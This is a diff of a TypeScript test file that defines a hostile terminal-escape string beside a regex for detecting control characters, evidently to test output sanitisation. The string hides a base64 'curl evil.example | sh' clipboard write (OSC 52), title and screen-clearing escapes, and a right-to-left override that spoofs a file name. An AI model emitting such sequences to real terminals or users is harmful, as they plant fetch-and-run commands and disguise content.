@@ -15,7 +15,6 @@ const TENANT = '0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b';
 const CLIENT = '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d';
 const HOSTILE = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\x1bc\rfake\x00\u009b31m\u202egnp.exe';
 // Control characters but TAB, LF and CRLF; C1; the bidi embeddings, overrides and isolates.
-// eslint-disable-next-line no-control-regex
 const CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
 let dir: string;
 let pki: PracticePki;
